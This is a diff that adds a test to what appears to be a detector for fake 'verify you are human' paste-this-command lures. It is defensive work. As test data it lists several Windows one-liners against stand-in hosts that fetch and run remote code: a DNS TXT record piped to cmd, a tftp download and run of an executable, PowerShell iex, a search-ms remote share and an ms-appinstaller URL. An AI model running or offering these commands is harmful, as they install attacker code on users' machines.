@@ -24,3 +24,16 @@ test('texts without keys, a pretext or a server ask for nothing', () => {
   ])
     assert.equal(pastedCommand(text), null, text)
 })
+
+test('after a check that the reader is human, any command of Windows is one', () => {
+  for (const command of [
+    'cmd /c "nslookup -q=txt a.example | findstr /v Name | cmd"',
+    'cmd /c tftp -i files.example get a.exe & a.exe',
+    'powershell -c "iex (Resolve-DnsName a.example -Type TXT).Strings"',
+    'explorer "search-ms:query=Invoice&crumb=location:\\\\files.example\\share"',
+    'ms-appinstaller:?source=https://files.example/a.appinstaller',
+  ])
+    assert.equal(pastedCommand(`${LURE}\n${command}`), command)
+  const manual = 'Cloudflare WARP does not connect? Press Windows + R, paste this line and press Enter:'
+  assert.equal(pastedCommand(`${manual}\ncmd /c ipconfig /flushdns`), null)
+})
